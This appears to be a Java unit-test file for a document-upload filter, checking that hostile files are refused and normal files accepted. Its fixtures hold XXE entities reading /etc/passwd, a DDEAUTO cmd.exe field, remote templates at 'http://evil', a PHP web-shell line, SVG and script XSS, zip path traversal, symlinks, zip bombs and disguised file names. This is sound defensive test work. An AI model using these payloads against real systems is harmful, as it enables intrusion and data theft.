package org.gongkai.attachment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.gongkai.attachment.Samples.bytes;
import static org.gongkai.attachment.Samples.docx;
import static org.gongkai.attachment.Samples.in;
import static org.gongkai.attachment.Samples.join;
import static org.gongkai.attachment.Samples.parts;
import static org.gongkai.attachment.Samples.pdf;
import static org.gongkai.attachment.Samples.picture;
import static org.gongkai.attachment.Samples.put;
import static org.gongkai.attachment.Samples.utf8;
import static org.gongkai.attachment.Samples.with;
import static org.gongkai.attachment.Samples.zip;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Properties;
import java.util.stream.Stream;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.gongkai.workflow.Refused;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

@DisplayName("F14：恶意文件都被拒收，正常文件都能收下")
class HostileUploadTests {

    @TempDir
    Path folder;

    static Stream<Arguments> hostile() {
        return Stream.concat(Stream.concat(packages(), containers()), Stream.concat(pdfs(), others()));
    }

    private static Stream<Arguments> packages() {
        return Stream.of(
                arguments("宏", "a.docx", with("word/vbaProject.bin", new byte[] {1}), "attachment.macro"),
                arguments("启用宏的类型", "a.docx", macroEnabled(), "attachment.macro"),
                arguments("Excel 4 宏表", "a.docx", with("xl/macrosheets/sheet1.xml", utf8("<x/>")), "attachment.macro"),
                arguments("ActiveX", "a.docx", with("word/activeX/activeX1.xml", utf8("<x/>")), "attachment.macro"),
                arguments(
                        "DOCTYPE",
                        "a.docx",
                        with("word/a.xml", utf8("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>")),
                        "attachment.entity"),
                arguments(
                        "DOCTYPE UTF-16LE",
                        "a.docx",
                        with("word/a.xml", in("UTF-16LE", "\ufeff<!DOCTYPE x><x/>")),
                        "attachment.entity"),
                arguments(
                        "DOCTYPE UTF-16BE",
                        "a.docx",
                        with("word/a.xml", in("UTF-16BE", "\ufeff<!DOCTYPE x><x/>")),
                        "attachment.entity"),
                arguments(
                        "DOCTYPE UTF-32",
                        "a.docx",
                        with("word/a.xml", in("UTF-32BE", "<!DOCTYPE x><x/>")),
                        "attachment.entity"),
                arguments("小写 doctype", "a.docx", with("word/a.xml", utf8("<!doctype x><x/>")), "attachment.entity"),
                arguments(
                        "十亿次笑",
                        "a.docx",
                        with(
                                "customXml/i.xml",
                                utf8("<?xml version='1.0'?>" + " ".repeat(70_000) + "<!ENTITY lol 'lol'>")),
                        "attachment.entity"),
                arguments(
                        "rels 里的实体",
                        "a.docx",
                        with("_rels/.rels", utf8("<!ENTITY % p SYSTEM 'http://x'>")),
                        "attachment.entity"),
                arguments(
                        "DDE",
                        "a.docx",
                        with("word/b.xml", utf8("<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>")),
                        "attachment.dde"),
                arguments(
                        "DDE 链接",
                        "a.docx",
                        with("xl/externalLinks/e.xml", utf8("<ddeLink ddeService=\"cmd\"/>")),
                        "attachment.dde"),
                arguments(
                        "远程模板",
                        "a.docx",
                        with(
                                "word/_rels/settings.xml.rels",
                                utf8(
                                        "<Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil/x.dotm\" TargetMode=\"External\"/>")),
                        "attachment.remotePart"),
                arguments(
                        "远程对象",
                        "a.docx",
                        with(
                                "word/_rels/document.xml.rels",
                                utf8(
                                        "<Relationship TargetMode=\"External\" Type=\"http://x/relationships/oleObject\" Target=\"http://evil/x\"/>")),
                        "attachment.remotePart"),
                arguments("里面有程序", "a.docx", with("word/embeddings/x.bin", utf8("MZ\u0090")), "attachment.executable"),
                arguments("里面有 ELF", "a.docx", with("word/media/x.png", utf8("\177ELF")), "attachment.executable"),
                arguments("里面有病毒", "a.docx", with("word/media/x.txt", utf8(Eicar.TEXT)), "attachment.virus"),
                arguments("套压缩包", "a.docx", with("word/x.zip", utf8("PK")), "attachment.nested"),
                arguments("套 jar", "a.docx", with("word/x.jar", utf8("PK")), "attachment.nested"),
                arguments("改了名的套包", "a.docx", with("word/media/x.png", zip(parts())), "attachment.nested"));
    }

    private static Stream<Arguments> containers() {
        return Stream.of(
                arguments("炸弹：压缩比", "a.docx", with("word/big.xml", new byte[30_000_000]), "attachment.ratio"),
                arguments("炸弹：总量", "a.docx", manySmallBombs(), "attachment.tooLargeUnpacked"),
                arguments("部件太多", "a.docx", manyEntries(), "attachment.tooManyEntries"),
                arguments("上级路径", "a.docx", with("../../etc/cron.d/x", utf8("x")), "attachment.traversal"),
                arguments("中间上级路径", "a.docx", with("word/../../x", utf8("x")), "attachment.traversal"),
                arguments("绝对路径", "a.docx", with("/etc/passwd", utf8("x")), "attachment.traversal"),
                arguments("反斜杠", "a.docx", with("word\\..\\x", utf8("x")), "attachment.traversal"),
                arguments("盘符", "a.docx", with("C:/x", utf8("x")), "attachment.traversal"),
                arguments("名字过长", "a.docx", with("w/" + "x".repeat(300), utf8("x")), "attachment.traversal"),
                arguments("符号链接", "a.docx", symlink(), "attachment.symlink"),
                arguments("重名", "a.docx", duplicate("word/document.xml"), "attachment.duplicateEntry"),
                arguments("大小写重名", "a.docx", duplicate("WORD/Document.xml"), "attachment.duplicateEntry"),
                arguments("加密", "a.docx", encrypted(), "attachment.encrypted"),
                arguments("尾部拼接", "a.docx", join(zip(parts()), utf8("<script>1</script>")), "attachment.polyglot"),
                arguments("头部拼接", "a.docx", join(utf8("GIF89a"), zip(parts())), "attachment.notWhatItSays"),
                arguments("截断", "a.docx", Arrays.copyOf(docx("内容"), 900), "attachment.damaged"),
                arguments(
                        "没有类型表",
                        "a.docx",
                        zip(zip -> put(zip, "word/document.xml", utf8("<x/>"))),
                        "attachment.notWhatItSays"),
                arguments("表格冒充文档", "a.docx", Samples.xlsx(book -> book.createSheet()), "attachment.notWhatItSays"),
                arguments("文档冒充版式文件", "a.ofd", docx("x"), "attachment.notWhatItSays"),
                arguments("PDF 冒充文档", "a.docx", pdf(p -> {}), "attachment.notWhatItSays"),
                arguments("加密的文档（复合文件）", "a.docx", ole("EncryptedPackage"), "attachment.notWhatItSays"));
    }

    private static Stream<Arguments> pdfs() {
        return Stream.of(
                arguments(
                        "脚本",
                        "a.pdf",
                        pdf(p -> p.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"))),
                        "attachment.script"),
                arguments(
                        "启动程序",
                        "a.pdf",
                        pdf(p -> p.getDocumentCatalog().setOpenAction(new PDActionLaunch())),
                        "attachment.script"),
                arguments("动态表单", "a.pdf", xfa(), "attachment.script"),
                arguments("内嵌文件", "a.pdf", embedded(), "attachment.embeddedFile"),
                arguments("加密", "a.pdf", locked(), "attachment.encrypted"),
                arguments("PDF 拼压缩包", "a.pdf", join(pdf(p -> {}), zip(parts())), "attachment.polyglot"),
                arguments("PDF 前有网页", "a.pdf", join(utf8("<html>"), pdf(p -> {})), "attachment.notWhatItSays"),
                arguments("截断", "a.pdf", utf8("%PDF-1.7\n1 0 obj\n<<"), "attachment.damaged"));
    }

    private static Stream<Arguments> others() {
        return Stream.of(
                arguments("病毒测试", "a.txt", utf8(Eicar.TEXT), "attachment.virus"),
                arguments("空文件", "a.txt", new byte[0], "attachment.empty"),
                arguments(
                        "网页冒充文本", "a.txt", utf8("<html><script>alert(1)</script></html>"), "attachment.notWhatItSays"),
                arguments("svg 冒充文本", "a.csv", utf8(" <svg onload=alert(1)>"), "attachment.notWhatItSays"),
                arguments("二进制冒充文本", "a.txt", new byte[] {'a', 0, 'b'}, "attachment.notWhatItSays"),
                arguments("php 冒充文本", "a.txt", utf8("<?php system($_GET[1]);"), "attachment.notWhatItSays"),
                arguments("svg 冒充图片", "a.png", utf8("<svg/>"), "attachment.notWhatItSays"),
                arguments(
                        "坏图片",
                        "a.jpg",
                        new byte[] {(byte) 0xff, (byte) 0xd8, (byte) 0xff, (byte) 0xe0, 0, 0},
                        "attachment.damaged"),
                arguments("像素洪水", "a.png", flood(), "attachment.tooManyPixels"),
                arguments("复合文件里的宏", "a.xls", ole("_VBA_PROJECT_CUR"), "attachment.macro"),
                arguments("嵌入对象", "a.doc", ole("\1Ole10Native"), "attachment.macro"),
                arguments("文档冒充表格", "a.xls", ole("WordDocument"), "attachment.notWhatItSays"),
                arguments(
                        "坏的复合文件",
                        "a.doc",
                        join(
                                new byte[] {
                                    (byte) 0xd0,
                                    (byte) 0xcf,
                                    0x11,
                                    (byte) 0xe0,
                                    (byte) 0xa1,
                                    (byte) 0xb1,
                                    0x1a,
                                    (byte) 0xe1
                                },
                                new byte[100]),
                        "attachment.damaged"),
                arguments("程序", "a.exe", utf8("MZ"), "attachment.typeNotAllowed"),
                arguments("网页", "a.html", utf8("<p>1"), "attachment.typeNotAllowed"),
                arguments("压缩包", "a.zip", zip(parts()), "attachment.typeNotAllowed"),
                arguments("矢量图", "a.svg", utf8("<svg/>"), "attachment.typeNotAllowed"),
                arguments("没有扩展名", "passwd", utf8("x"), "attachment.noExtension"),
                arguments("双扩展名", "通知.exe.docx", docx("x"), "attachment.doubleExtension"),
                arguments("双扩展名 php", "a.php.jpg", picture("jpg", 2, 2), "attachment.doubleExtension"),
                arguments("方向控制符", "a\u202excod.exe", utf8("MZ"), "attachment.typeNotAllowed"),
                arguments("空字节", "a.docx\0.exe", utf8("MZ"), "attachment.typeNotAllowed"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void a_hostile_file_is_refused_with_its_rule(String family, String name, byte[] content, String rule) {
        assertThatThrownBy(() -> receive(name, content))
                .isInstanceOfSatisfying(
                        Refused.class, e -> assertThat(e.refusal().messageKey()).isEqualTo(rule));
    }

    @Test
    @DisplayName("每条拒收理由都有中文句子")
    void every_rule_has_its_sentence() throws IOException {
        var texts = new Properties();
        try (var in = Files.newBufferedReader(Path.of("src/main/resources/messages/attachment.properties"))) {
            texts.load(in);
        }
        assertThat(hostile().map(sample -> (String) sample.get()[3]).distinct()).allMatch(texts::containsKey);
    }

    static Stream<Arguments> benign() {
        return Stream.of(
                arguments("2026年公报.docx", docx("正文")),
                arguments(
                        "有嵌入图表.docx",
                        with("word/embeddings/Microsoft_Excel_Sheet1.xlsx", Samples.xlsx(b -> b.createSheet()))),
                arguments("名册.xlsx", Samples.xlsx(HostileUploadTests::rows)),
                arguments("旧表.xls", Samples.xls(HostileUploadTests::rows)),
                arguments("演示.pptx", Samples.pptx()),
                arguments("文件.pdf", pdf(p -> {})),
                arguments("说明.txt", utf8("第一条 为了…\n第二条 <本办法>适用于……")),
                arguments("说明2.txt", in("GB18030", "第一条 为了规范")),
                arguments("说明3.txt", in("UTF-16", "第一条 为了规范")),
                arguments("数据.csv", utf8("姓名,金额\n张*,100\n")),
                arguments("照片.JPG", picture("jpg", 640, 480)),
                arguments("图.png", picture("png", 640, 480)),
                arguments("v1.2 最终稿.docx", docx("版本号里的点不是扩展名")),
                arguments("版式.ofd", zip(zip -> {
                    put(zip, "OFD.xml", utf8("<ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\"/>"));
                    put(zip, "Doc_0/Pages/Page_0/Content.xml", utf8("<Page><TextCode>内容</TextCode></Page>"));
                })));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("benign")
    void a_normal_file_is_taken(String name, byte[] content) throws IOException {
        assertThat(receive(name, content)).isNotEmptyFile();
    }

    @Test
    @DisplayName("图片重新编码：拍摄信息和夹带的压缩包都没有了，方向摆正")
    void pictures_are_written_anew() throws IOException {
        var exif = join(new byte[] {(byte) 0xff, (byte) 0xe1, 0, 34}, utf8("Exif\0\0"), new byte[] {
            'I', 'I', 42, 0, 8, 0, 0, 0, 1, 0, 0x12, 1, 3, 0, 1, 0, 0, 0, 6, 0, 0, 0, 0, 0, 0, 0
        });
        var jpeg = picture("jpg", 40, 20);
        var photo = join(Arrays.copyOf(jpeg, 2), exif, Arrays.copyOfRange(jpeg, 2, jpeg.length), zip(parts()));
        var file = Files.write(folder.resolve("p"), photo);
        assertThat(Images.orientation(file)).isEqualTo(6);
        var clean = receive("照片.jpg", photo);
        var text = new String(Files.readAllBytes(clean), java.nio.charset.StandardCharsets.ISO_8859_1);
        assertThat(text).doesNotContain("Exif").doesNotContain("PK\3\4");
        var image = javax.imageio.ImageIO.read(clean.toFile());
        assertThat(image.getWidth()).isEqualTo(20);
        assertThat(image.getHeight()).isEqualTo(40);
    }

    /** 与收件的次序相同。 */
    private Path receive(String given, byte[] content) throws IOException {
        var name = FileName.of(given);
        var kind = FileKind.of(name.extension())
                .orElseThrow(() -> PackageCheck.refused("attachment.typeNotAllowed", name.extension()));
        var file = Files.write(folder.resolve("sample"), content);
        FileCheck.check(file, kind);
        if (!kind.isImage()) {
            return file;
        }
        var clean = folder.resolve("clean");
        Images.reencode(file, clean, kind);
        return clean;
    }

    private static void rows(org.apache.poi.ss.usermodel.Workbook book) {
        var sheet = book.createSheet("名册");
        for (int i = 0; i < 3_000; i++) {
            var row = sheet.createRow(i);
            row.createCell(0).setCellValue("同样的内容");
            row.createCell(1).setCellValue(i % 7);
        }
    }

    private static byte[] macroEnabled() {
        var parts = parts();
        parts.put(
                "[Content_Types].xml",
                utf8(Samples.DOCX_TYPES.replace(
                        "openxmlformats-officedocument.wordprocessingml.document.main",
                        "ms-word.document.macroEnabled.main")));
        return zip(parts);
    }

    private static byte[] manySmallBombs() {
        return zip(zip -> {
            for (var part : parts().entrySet()) {
                put(zip, part.getKey(), part.getValue());
            }
            for (int i = 0; i < 60; i++) {
                put(zip, "word/b" + i + ".bin", new byte[4_000_000]);
            }
        });
    }

    private static byte[] manyEntries() {
        return zip(zip -> {
            for (int i = 0; i < 2_001; i++) {
                put(zip, "w/" + i, new byte[1]);
            }
        });
    }

    private static byte[] symlink() {
        return zip(zip -> {
            for (var part : parts().entrySet()) {
                put(zip, part.getKey(), part.getValue());
            }
            var link = new ZipArchiveEntry("word/link");
            link.setUnixMode(0120777);
            zip.putArchiveEntry(link);
            zip.write(utf8("/etc/passwd"));
            zip.closeArchiveEntry();
        });
    }

    private static byte[] duplicate(String name) {
        return zip(zip -> {
            for (var part : parts().entrySet()) {
                put(zip, part.getKey(), part.getValue());
            }
            put(zip, name, utf8("<x/>"));
        });
    }

    private static byte[] encrypted() {
        var bytes = zip(parts());
        for (int i = 0; i + 10 < bytes.length; i++) {
            if (bytes[i] == 'P' && bytes[i + 1] == 'K' && bytes[i + 2] == 3 && bytes[i + 3] == 4) {
                bytes[i + 6] |= 1;
            } else if (bytes[i] == 'P' && bytes[i + 1] == 'K' && bytes[i + 2] == 1 && bytes[i + 3] == 2) {
                bytes[i + 8] |= 1;
            }
        }
        return bytes;
    }

    private static byte[] ole(String entry) {
        return bytes(out -> {
            try (var files = new POIFSFileSystem()) {
                files.createDocument(new java.io.ByteArrayInputStream(new byte[5_000]), entry);
                files.writeFilesystem(out);
            }
        });
    }

    private static byte[] xfa() {
        return pdf(p -> {
            var form = new COSDictionary();
            form.setItem(COSName.getPDFName("XFA"), new COSStream());
            p.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
        });
    }

    private static byte[] embedded() {
        return pdf(p -> {
            var file = new PDComplexFileSpecification();
            file.setFile("x.exe");
            file.setEmbeddedFile(new PDEmbeddedFile(p, new java.io.ByteArrayInputStream(utf8("MZ"))));
            var tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(java.util.Map.of("x.exe", file));
            var names = new PDDocumentNameDictionary(p.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            p.getDocumentCatalog().setNames(names);
        });
    }

    private static byte[] locked() {
        return pdf(p -> p.protect(new StandardProtectionPolicy("owner", "user", new AccessPermission())));
    }

    /** 只有头的 PNG，声称五万见方。 */
    private static byte[] flood() {
        var header = ByteBuffer.allocate(33);
        header.put(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        header.putInt(13).put(utf8("IHDR")).putInt(50_000).putInt(50_000);
        header.put(new byte[] {8, 2, 0, 0, 0});
        var crc = new java.util.zip.CRC32();
        crc.update(header.array(), 12, 17);
        header.putInt((int) crc.getValue());
        return join(header.array(), picture("png", 2, 2));
    }
}
